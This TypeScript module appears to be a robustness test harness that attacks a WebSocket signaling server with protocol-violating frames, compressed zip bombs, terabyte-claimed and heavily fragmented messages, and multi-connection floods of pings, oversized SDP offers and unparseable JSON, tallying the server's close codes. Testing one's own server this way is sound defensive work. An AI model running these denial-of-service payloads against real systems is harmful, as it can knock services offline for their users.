/** Attacks by broken, huge and endless WebSocket frames. */
import { randomUUID } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { Intruder } from './intruder';
import { closeCodeOf, frame, openRawWebSocket, type FrameParts } from './raw-connection';
import { pause, Tally, type Attack, type Target } from './target';

/** How often each kind is tried. */
const TRIES = 10;

const TEXT = 1;
const CONTINUATION = 0;
const PING = 9;
const MEGABYTE = 1024 * 1024;

async function sendFrames(
  target: Target,
  tally: Tally,
  name: string,
  frames: readonly FrameParts[],
): Promise<void> {
  const connection = await openRawWebSocket(target);
  for (const parts of frames) {
    if (connection.socket.destroyed) break;
    if (!connection.socket.write(frame(parts))) await pause(1);
  }
  tally.add(`${name}: ${await closeCodeOf(connection)}`);
}

/** Frames that the WebSocket protocol forbids. */
export const malformedFrames: Attack = async (target) => {
  const tally = new Tally();
  const payload = Buffer.from('{"type":"ping","sentAt":1}');
  for (let count = 0; count < TRIES; count += 1) {
    await sendFrames(target, tally, 'unmasked', [{ opcode: TEXT, payload, isMasked: false }]);
    await sendFrames(target, tally, 'reserved opcode', [{ opcode: 5, payload }]);
    const notText = Buffer.from([0xff, 0xfe, 0xc0, 0x80]);
    await sendFrames(target, tally, 'no UTF-8', [{ opcode: TEXT, payload: notText }]);
    await sendFrames(target, tally, 'stray continuation', [{ opcode: CONTINUATION, payload }]);
    await sendFrames(target, tally, 'long ping', [{ opcode: PING, payload: Buffer.alloc(500) }]);
  }
  return String(tally);
};

/** Frames that say they are packed, and would grow a thousandfold. */
export const zipBombs: Attack = async (target) => {
  const tally = new Tally();
  const payload = gzipSync(Buffer.alloc(40 * MEGABYTE));
  for (let count = 0; count < TRIES; count += 1) {
    const offer = ['Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits'];
    const connection = await openRawWebSocket(target, offer);
    const isTaken = /sec-websocket-extensions/iu.test(connection.response);
    tally.add(isTaken ? 'COMPRESSION GRANTED' : 'compression not granted');
    connection.socket.write(frame({ opcode: TEXT, payload, isCompressed: true }));
    tally.add(await closeCodeOf(connection));
  }
  return String(tally);
};

/** Messages far beyond what a frame may be: in one piece, and in a hundred thousand. */
export const giantMessages: Attack = async (target) => {
  const tally = new Tally();
  const piece = Buffer.alloc(MEGABYTE, 'x');
  for (let count = 0; count < TRIES; count += 1) {
    const claimedLength = 2 ** 40;
    await sendFrames(target, tally, 'a terabyte', [
      { opcode: TEXT, payload: piece, claimedLength },
    ]);
    const first: FrameParts = { opcode: TEXT, isFinal: false, payload: Buffer.from('"') };
    const next: FrameParts = { opcode: CONTINUATION, isFinal: false, payload: Buffer.from('x') };
    const pieces = [first, ...Array.from({ length: 20_000 }, () => next)];
    await sendFrames(target, tally, '20,000 fragments', pieces);
  }
  return String(tally);
};

/** Sends what is allowed, as fast as it can: messages, pings, large frames. */
function flood(say: (intruder: Intruder, count: number) => void): Attack {
  return async (target) => {
    const tally = new Tally();
    const end = performance.now() + target.durationMs;
    let sent = 0;
    const run = async (): Promise<void> => {
      while (performance.now() < end) {
        const disguise = { clientType: 'streamer', key: target.phoneKey } as const;
        const intruder = new Intruder(target, disguise);
        await intruder.hears('welcome');
        while (intruder.end === undefined && performance.now() < end) {
          for (let burst = 0; burst < 50; burst += 1) say(intruder, (sent += 1));
          await pause(1);
        }
        tally.add(intruder.end ?? 'still there at the end');
        intruder.leave();
        await pause(50);
      }
    };
    await Promise.all([run(), run(), run(), run()]);
    return `${sent} sent; ${String(tally)}`;
  };
}

/** Sound messages. */
export const floodMessages: Attack = flood((intruder, sentAt) => {
  intruder.send({ type: 'ping', sentAt });
});

/** Pings of the WebSocket protocol. */
export const floodPings: Attack = flood(({ socket }) => {
  if (socket.readyState === socket.OPEN) socket.ping(Buffer.alloc(120));
});

/** Frames as large as they may be. */
export const floodBytes: Attack = flood((intruder, count) => {
  if (count % 10 > 0 || intruder.socket.bufferedAmount > 4 * MEGABYTE) return;
  const description = { type: 'offer', sdp: 'x'.repeat(56_000), negotiation: count };
  const payload = { kind: 'description', description };
  intruder.send({ type: 'signal', sessionId: randomUUID(), payload });
});

/** What cannot be read at all. */
export const floodNonsense: Attack = flood(({ socket }) => {
  if (socket.readyState === socket.OPEN) socket.send('{"type":');
});
